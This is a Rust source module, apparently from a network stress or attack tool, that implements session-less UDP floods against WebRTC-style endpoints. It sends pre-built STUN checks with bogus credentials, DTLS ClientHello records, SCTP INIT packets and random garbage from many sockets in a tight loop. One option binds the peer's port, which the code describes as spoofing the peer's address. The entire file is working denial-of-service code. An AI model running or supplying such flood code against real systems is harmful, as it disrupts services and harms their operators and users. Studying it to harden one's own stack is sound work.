//! Floods without a session, over UDP.

use std::io::ErrorKind;
use std::net::{IpAddr, SocketAddr, UdpSocket};

use rand::RngCore;

use crate::attack::{Outcome, Result, Stop, Target};
use crate::wire::{check, init, packet};

/// The number of sockets, each with its own port, that the flood comes from.
const SOURCES: usize = 16;

/// Different datagrams, made beforehand, because making them would slow the flood down.
const VARIANTS: usize = 1024;

pub(crate) fn attack(kind: &str, target: &Target, stop: &Stop) -> Result<Outcome> {
    let variants: Vec<Vec<u8>> = (0..VARIANTS).map(|_| datagram(kind, target)).collect();
    let sources = match target.local_port {
        // Spoofs the address of the peer.
        Some(port) => vec![source(target, port)?],
        None => (0..SOURCES).map(|_| source(target, 0)).collect::<Result<_>>()?,
    };
    let mut sent = 0;
    while !stop.is_set() {
        for (index, datagram) in variants.iter().enumerate() {
            match sources[index % sources.len()].send(datagram) {
                Ok(_) => sent += 1,
                // ICMP's answer to an earlier datagram: the port has been closed.
                Err(error) if error.kind() == ErrorKind::ConnectionRefused => {}
                Err(error) => return Err(error.into()),
            }
        }
    }
    Ok(Outcome { sent, ended: false })
}

fn source(target: &Target, port: u16) -> Result<UdpSocket> {
    let unspecified: IpAddr = if target.ip.is_ipv4() { [0; 4].into() } else { [0u16; 8].into() };
    let ip = if target.ip.is_loopback() { target.ip } else { unspecified };
    let socket = UdpSocket::bind(SocketAddr::new(ip, port))?;
    socket.connect(target.address())?;
    Ok(socket)
}

fn datagram(kind: &str, target: &Target) -> Vec<u8> {
    let known = target.username_fragment.as_deref().unwrap_or("unknown");
    match kind {
        "stun-ufrag" => check(&random_letters(), "the password of no transport"),
        "stun-integrity" => check(known, "the password of another agent"),
        "client-hello" => client_hello(),
        "init" => init_packet(),
        "garbage" => {
            let mut rng = rand::rng();
            let mut bytes = vec![0; 1 + rng.next_u32() as usize % 1200];
            rng.fill_bytes(&mut bytes);
            bytes
        }
        other => panic!("unknown kind of attack {other:?}"),
    }
}

fn random_letters() -> String {
    let mut bytes = [0; 32];
    rand::rng().fill_bytes(&mut bytes);
    bytes.iter().map(|byte| char::from(b'a' + byte % 26)).collect()
}

/// A record with the headers of a ClientHello (RFC 6347 §4.1, §4.2.2) and random bytes.
fn client_hello() -> Vec<u8> {
    const BODY: u8 = 120;
    let mut bytes = vec![22, 254, 253, 0, 0, 0, 0, 0, 0, 0, 0, 0, 12 + BODY];
    bytes.extend([1, 0, 0, BODY, 0, 0, 0, 0, 0, 0, 0, BODY, 254, 253]);
    let mut rest = [0; BODY as usize - 2];
    rand::rng().fill_bytes(&mut rest);
    bytes.extend(rest);
    bytes
}

/// An INIT with a random tag (RFC 9260 §3.3.2).
fn init_packet() -> Vec<u8> {
    let tag = rand::rng().next_u32() | 1;
    packet(0, &[init(tag, tag)])
}
